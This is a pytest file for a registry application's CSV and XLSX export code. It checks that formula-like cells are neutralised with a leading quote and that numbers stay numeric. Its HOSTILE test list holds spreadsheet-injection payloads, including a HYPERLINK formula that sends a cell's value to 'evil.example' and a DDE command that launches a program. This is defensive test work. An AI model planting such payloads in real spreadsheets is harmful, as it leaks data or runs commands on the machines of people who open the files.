"""CSV and XLSX exports: formula cells neutralised, numbers kept numeric, UTF-8 with BOM."""

from __future__ import annotations

import csv
import io
from decimal import Decimal

import pytest
from hypothesis import given
from hypothesis import strategies as st
from openpyxl import load_workbook

from registry.adapters.exports import neutralise, render, to_csv, to_xlsx
from registry.domain.export_tables import ExportTable

HOSTILE = [
    '=HYPERLINK("http://evil.example/?"&A1,"klik")',
    "+1+1",
    "-2+3",
    "@SUM(A1:A2)",
    "\t=1+1",
    "\r=1+1",
    "=cmd|' /C calc'!A0",
]


@pytest.mark.parametrize("text", HOSTILE)
def test_a_cell_a_spreadsheet_would_evaluate_gets_a_quote(text: str) -> None:
    assert neutralise(text) == "'" + text


@pytest.mark.parametrize(
    "text", ["Dra. Siti Aminah, M.Si.", "", " =1", "'quoted", "Andé", "1+1", "a=b", "20"]
)
def test_other_text_is_left_alone(text: str) -> None:
    assert neutralise(text) == text


@given(st.text())
def test_a_neutralised_cell_never_starts_with_a_trigger(text: str) -> None:
    result = neutralise(text)
    assert not result.startswith(("=", "+", "-", "@", "\t", "\r"))
    # Nothing of the text is lost or changed: at most one quote goes in front.
    assert result in (text, "'" + text)


def table() -> ExportTable:
    return ExportTable.of(
        "JP 2026",
        "jp-DPUPR-2026",
        ["No", "Nama", "Total JP", "Poin"],
        [
            [1, "=1+1", Decimal("22.5"), None],
            [2, "Andé Wijaya", Decimal("20"), Decimal("-1")],
            *([n, name, Decimal(0), None] for n, name in enumerate(HOSTILE, start=3)),
        ],
    )


def test_csv_is_utf8_with_bom_and_every_formula_text_defused() -> None:
    data = to_csv(table())
    assert data.startswith(b"\xef\xbb\xbf")
    rows = list(csv.reader(io.StringIO(data.decode("utf-8-sig"), newline="")))
    assert rows[0] == ["No", "Nama", "Total JP", "Poin"]
    assert rows[1] == ["1", "'=1+1", "22.5", ""]
    # A number is a number, even a negative one; only text is touched.
    assert rows[2] == ["2", "Andé Wijaya", "20", "-1"]
    assert [row[1] for row in rows[3:]] == ["'" + text for text in HOSTILE]
    assert b"\r\n" in data


def test_xlsx_keeps_numbers_numeric_and_text_never_a_formula() -> None:
    book = load_workbook(io.BytesIO(to_xlsx(table())))
    sheet = book["JP 2026"]
    assert book.sheetnames == ["JP 2026"]
    values = [[cell.value for cell in row] for row in sheet.iter_rows()]
    assert values[0] == ["No", "Nama", "Total JP", "Poin"]
    assert values[1] == [1, "'=1+1", 22.5, None]
    assert values[2] == [2, "Andé Wijaya", 20, -1]
    assert [row[1] for row in values[3:]] == ["'" + text for text in HOSTILE]
    for row in sheet.iter_rows(min_row=2):
        assert row[1].data_type == "s"  # stored as text, never as a formula ("f")
        assert row[0].data_type == "n"
    assert sheet["C2"].data_type == "n"
    assert sheet.freeze_panes == "A2"


def test_render_names_the_file_and_its_media_type() -> None:
    csv_file = render(table(), "csv")
    assert (csv_file.filename, csv_file.media_type) == (
        "jp-DPUPR-2026.csv",
        "text/csv; charset=utf-8",
    )
    xlsx_file = render(table(), "xlsx")
    assert xlsx_file.filename == "jp-DPUPR-2026.xlsx"
    assert xlsx_file.content.startswith(b"PK\x03\x04")
    with pytest.raises(ValueError, match="unknown export format"):
        render(table(), "pdf")


def test_a_table_refuses_ragged_rows_and_long_sheet_names() -> None:
    with pytest.raises(ValueError, match="one cell per header"):
        ExportTable.of("x", "x", ["a", "b"], [["only one"]])
    with pytest.raises(ValueError, match="31 characters"):
        ExportTable.of("x" * 32, "x", ["a"], [])
